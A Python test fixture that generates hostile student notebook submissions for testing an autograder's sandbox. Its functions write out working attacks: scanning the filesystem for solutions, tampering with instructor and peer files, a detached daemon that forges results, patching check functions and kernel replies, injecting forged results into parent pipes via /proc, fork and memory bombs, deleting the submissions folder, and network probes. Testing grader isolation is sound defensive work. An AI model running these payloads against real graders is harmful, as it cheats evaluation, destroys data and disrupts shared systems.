"""Hostile submissions of the tiny lab (``tests/data/lab_tiny.md``) for ``tests/test_grade.py``.

Each attack is code in a submission's solution cells, as an attacker would write it: it knows
where the course clone is, where the instructor keeps the lab, where the results go and how the
grader works, and it runs as whatever user the kernel runs as. Every attack answers exercise 1
wrongly (``3 * x``) unless the attack itself obtains or forges the right result, so a row with
exercise 1 passed means the attack worked. What an attack saw is printed with the prefix
``ATTACK`` (the test reads it from the submission's feedback notebook).

:func:`batch` returns ``{file name: notebook text}`` for a folder of submissions.
"""

from __future__ import annotations

import json
import sys
from pathlib import Path

import jupytext
import nbformat

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT / "scripts"))
import make_student  # noqa: E402

TINY = ROOT / "tests" / "data" / "lab_tiny.md"
GOOD = {"ex1-solution": "def double(x):\n    return x + x", "ex2-solution": "speedup = 3.0"}
WRONG = "def double(x):\n    return 3 * x"


def submission(solutions: dict, checks: dict | None = None, extra: str | None = None) -> str:
    """The student edition of the tiny lab with some solution (and check) cells replaced, and
    ``extra`` as a cell the student added after the first solution."""
    nb = make_student.student_notebook(TINY)
    cells = []
    for cell in nb.cells:
        gid = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")
        if gid in solutions:
            cell.source = solutions[gid]
        if checks and gid in checks:
            cell.source = checks[gid]
        cells.append(cell)
        if extra and gid == "ex1-solution":
            cells.append(nbformat.v4.new_code_cell(extra))
    nb.cells = cells
    return nbformat.writes(nb)


def reads_solutions(clone: Path, lab_copy: Path) -> str:
    """Look for the lab's solutions (its source, a reference notebook) anywhere it can read, and
    use the solution when found."""
    return f'''import os, time
targets = ["../lab.md", "lab.md", "../labs/lab_tiny.md", {str(lab_copy)!r}, {str(lab_copy.with_suffix(".ipynb"))!r},
           {str(clone / "tests/data/lab_tiny.md")!r}, {str(clone / "labs/01_roofline.md")!r},
           {str(clone / "labs/01_roofline.ipynb")!r}]
found = []
for path in targets:
    try:
        if "BEGIN SOLUTION" in open(path).read():
            found.append(path)
    except OSError:
        pass
t0 = time.time()
for top, dirs, files in os.walk("/"):
    dirs[:] = [d for d in dirs if os.path.join(top, d) not in ("/proc", "/sys", "/dev", "/usr")
               and d not in ("site-packages", ".git", "__pycache__")]
    for f in files:
        if f.endswith((".md", ".ipynb")) and time.time() - t0 < 5:
            p = os.path.join(top, f)
            try:
                if os.path.getsize(p) < 2**20 and "return 2 * x" in open(p).read():
                    found.append(p)
            except OSError:
                pass
print("ATTACK found solutions:", sorted(set(found)))
if found:
    def double(x):
        return 2 * x       # copied from what was found
else:
    def double(x):
        return 3 * x'''


def writes_files(clone: Path, lab_copy: Path, other: Path, out: Path, token: str) -> str:
    """Write into the instructor's lab, the clone (a new lab, perflab's checks), another
    submission, the results and the student tree."""
    targets = [str(lab_copy), str(clone / "labs" / f".attack-{token}.md"), str(clone / "perflab" / "labs" / "exercises.py"),
               str(clone / "perflab" / f"_attack_{token}.py"), str(other), str(out),
               "/course/perflab/exercises.py"]
    return f'''{WRONG}
wrote = []
for path in {targets!r}:
    try:
        with open(path, "a") as f:
            f.write("\\n# attack {token}\\n")
        wrote.append(path)
    except OSError as err:
        pass
print("ATTACK wrote:", wrote)'''


def daemon(out: Path, marker: Path, token: str) -> str:
    """Leave a process behind (double fork, new session, empty environment, SIGTERM ignored) that
    rewrites the results after the grader is done."""
    inner = (f"import os, signal, time\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
             f"signal.signal(signal.SIGHUP, signal.SIG_IGN)\nend = time.time() + 90\n"
             f"while time.time() < end:\n"
             f"    for p in ({str(out)!r}, {str(marker)!r}):\n"
             f"        try:\n            open(p, 'w').write('forged {token}')\n"
             f"        except OSError:\n            pass\n    time.sleep(0.2)\n")
    return f'''{WRONG}
import os, subprocess, sys
if os.fork() == 0:
    os.setsid()
    subprocess.Popen([sys.executable, "-c", {inner!r}], env={{}}, start_new_session=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    os._exit(0)
os.wait()
print("ATTACK daemon started")'''


def replaces_checks() -> str:
    """Replace the check functions (in perflab and in the notebook's namespace)."""
    return f'''{WRONG}
import perflab.labs.exercises as E
E.check_close = lambda *a, **k: True
check_close = E.check_close'''


def swallows_errors() -> str:
    """Wrap every later cell in ``try/except`` with an AST transformer."""
    return f'''{WRONG}
import ast
class Swallow(ast.NodeTransformer):
    def visit_Module(self, node):
        handler = ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None, body=[ast.Pass()])
        node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[], finalbody=[])]
        return ast.fix_missing_locations(node)
get_ipython().ast_transformers.append(Swallow())'''


def patches_math() -> str:
    """Make the comparison inside the check lie (``math.isclose`` always true)."""
    return f'''{WRONG}
import math
math.isclose = lambda *a, **k: True'''


def forges_replies() -> str:
    """Rewrite the kernel's own messages: error outputs dropped, error replies turned into 'ok'."""
    return f'''{WRONG}
session = get_ipython().kernel.session
original = session.send
def send(stream, msg_or_type, content=None, parent=None, *args, **kwargs):
    kind = msg_or_type if isinstance(msg_or_type, str) else msg_or_type.get("header", {{}}).get("msg_type")
    if kind == "error":
        return None
    if kind == "execute_reply" and isinstance(content, dict) and content.get("status") == "error":
        content = {{"status": "ok", "execution_count": content.get("execution_count"), "user_expressions": {{}},
                   "payload": []}}
    return original(stream, msg_or_type, content, parent, *args, **kwargs)
session.send = send'''


def forges_channel() -> str:
    """Write forged results into every pipe it holds and every pipe of its parent and grandparent
    (the worker's pipe to the grader, in a grader that lets the kernel reach it), now and again
    from a process without the grader's environment token, once the worker has exited (so that
    the forgery is the last result on the pipe).

    Only pipes, and only those two processes: run under a grader without a sandbox, as root, an
    attack that wrote into every open file under /proc reached every process on the machine.
    """
    cells = [{"index": i, "grade_id": gid, "grade": True, "points": pts, "error": "", "measured": [],
              "origin": "instructor", "replied": True, "text": "", "expects_verdict": False, "ledger": []}
             for i, gid, pts in ((3, "ex1-check", 2), (6, "ex2-check", 1), (7, "ex2-check-fast", 1))]
    lines = [json.dumps({"result": {"status": "graded", "note": "", "cells": cells, "seconds": 1.0}})]
    lines += [json.dumps({"cell": c}) for c in cells]
    lines += [json.dumps({"done": {"status": "graded", "note": "", "kernel_exit": None, "seconds": 1.0}})]
    payload = ("\n".join(lines) + "\n").encode()
    later = ("import os, sys, time\nworker = int(sys.argv[1])\nfds = [int(a) for a in sys.argv[2:]]\n"
             "for _ in range(600):\n    if not os.path.exists(f'/proc/{worker}'):\n        break\n"
             "    time.sleep(0.1)\n"
             f"for fd in fds:\n    try:\n        os.write(fd, {payload!r})\n    except OSError:\n        pass\n")
    return f'''{WRONG}
import os, stat, subprocess, sys
payload = {payload!r}
paths = [f"/proc/self/fd/{{fd}}" for fd in os.listdir("/proc/self/fd")]
worker = pid = os.getppid()
for _ in range(2):
    try:
        paths += [f"/proc/{{pid}}/fd/{{fd}}" for fd in os.listdir(f"/proc/{{pid}}/fd")]
        pid = int(open(f"/proc/{{pid}}/stat").read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        break
    if pid <= 1:
        break
held = []
for path in paths:
    try:
        if stat.S_ISFIFO(os.stat(path).st_mode):
            fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
            os.write(fd, payload)
            held.append(fd)
    except OSError:
        pass
if os.fork() == 0:
    subprocess.Popen([sys.executable, "-c", {later!r}, str(worker), *map(str, held)], env={{}}, pass_fds=held,
                     start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                     stderr=subprocess.DEVNULL)
    os._exit(0)
os.wait()
print("ATTACK forged writes:", len(held))'''


def memory_children(each_mib: int = 800, count: int = 3) -> str:
    """Hold memory in several child processes, each under a per-process limit.

    The parent waits until every child says it holds its memory (or died), then holds on: on a
    loaded machine the children's start can take longer than any fixed sleep."""
    child = (f"import time\nb = bytearray({each_mib} * 2**20)\nb[::4096] = b'x' * len(b[::4096])\n"
             "print('held', flush=True)\ntime.sleep(20)\n")
    return f'''{GOOD["ex2-solution"]}
import subprocess, sys, time
kids = [subprocess.Popen([sys.executable, "-c", {child!r}], stdout=subprocess.PIPE) for _ in range({count})]
for k in kids:
    k.stdout.readline()                   # "held", or nothing if the child was killed
time.sleep(3)
print("ATTACK children alive:", [k.poll() is None for k in kids])'''


def network(port: int) -> str:
    """Reach the grader's machine (a port listening on its loopback) and the outside world."""
    return f'''{WRONG}
import socket
reached = []
for host in ("127.0.0.1", socket.gethostname(), "1.1.1.1"):
    try:
        socket.create_connection((host, {port} if host != "1.1.1.1" else 53), timeout=2).close()
        reached.append(host)
    except OSError:
        pass
print("ATTACK reached:", reached)'''


def fork_bomb() -> str:
    return "import os, time\nfor _ in range(24):\n    if os.fork() == 0:\n        while True:\n            pass\ntime.sleep(60)"


def batch(clone: Path, lab_copy: Path, folder: Path, out: Path, marker: Path, port: int, token: str) -> dict[str, str]:
    """Every submission of the test batch, by file name (see ``EXPECTED`` in ``tests/test_grade.py``)."""
    vandal = (f"import shutil\nshutil.rmtree({str(folder)!r}, ignore_errors=True)\n"
              f"open({str(lab_copy)!r}, 'w').write('gone')\nopen({str(out)!r}, 'w').write('forged')")
    reference = jupytext.read(TINY)            # the instructor's own notebook, solutions in place
    reference.metadata.pop("jupytext", None)
    return {
        "a_deletes_files.ipynb": submission(GOOD, extra=vandal),
        "b_full.ipynb": submission(GOOD),
        "c_partial.ipynb": submission({"ex1-solution": GOOD["ex1-solution"]}),
        "c_partial_credit.ipynb": submission({"ex1-solution": GOOD["ex1-solution"], "ex2-solution": "speedup = 2.2"}),
        "d_raises.ipynb": submission({"ex1-solution": "raise RuntimeError('boom')",
                                      "ex2-solution": GOOD["ex2-solution"]}),
        "e_loops_forever.ipynb": submission({"ex1-solution": "while True:\n    pass"}),
        "f_memory_bomb.ipynb": submission({"ex1-solution": "hog = []\nwhile True:\n"
                                                           "    hog.append(bytearray(2**26))"}),
        "g_edits_checks.ipynb": submission({"ex1-solution": WRONG},
                                           checks={"ex1-check": "print('✓ all good')", "ex2-check": "pass"}),
        "h_fork_bomb.ipynb": submission({"ex1-solution": GOOD["ex1-solution"], "ex2-solution": fork_bomb()}),
        "i_not_a_notebook.ipynb": "this is not a notebook\n",
        "j_student_edition.ipynb": nbformat.writes(make_student.student_notebook(TINY)),
        "k_reference.ipynb": nbformat.writes(reference),
        "m_memory_children.ipynb": submission({"ex1-solution": GOOD["ex1-solution"],
                                               "ex2-solution": memory_children()}),
        "n_killed_by_signal.ipynb": submission({"ex1-solution": GOOD["ex1-solution"],
                                                "ex2-solution": "import os, signal\nos.kill(os.getpid(), signal.SIGSEGV)"}),
        "p_reads_solutions.ipynb": submission({"ex1-solution": reads_solutions(clone, lab_copy)}),
        "q_writes_files.ipynb": submission({"ex1-solution": writes_files(clone, lab_copy, folder / "b_full.ipynb",
                                                                         out, token)}),
        "r_daemon.ipynb": submission({"ex1-solution": daemon(out, marker, token)}),
        "s_replaces_checks.ipynb": submission({"ex1-solution": replaces_checks()}),
        "t_swallows_errors.ipynb": submission({"ex1-solution": swallows_errors()}),
        "u_patches_math.ipynb": submission({"ex1-solution": patches_math()}),
        "v_forges_replies.ipynb": submission({"ex1-solution": forges_replies()}),
        "w_forges_channel.ipynb": submission({"ex1-solution": forges_channel()}),
        "x_network.ipynb": submission({"ex1-solution": network(port)}),
    }
